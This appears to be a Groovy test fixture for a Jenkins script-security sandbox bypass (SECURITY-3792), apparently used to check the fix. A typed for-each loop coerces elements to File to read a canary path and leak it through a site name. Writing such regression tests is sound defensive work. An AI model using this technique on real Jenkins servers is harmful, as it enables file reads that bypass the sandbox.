// class: coercion
// source: Jenkins SECURITY-3792 (typed for-each loop variable cast)
// expect: read
// A typed for-each variable casts every element of the collection to File.
for (File f in [['@CANARY_READ@']]) {
    def v = f*.toString().join('|')
    vmwareSite("leak-${v}") { network 'VM Network' }
}
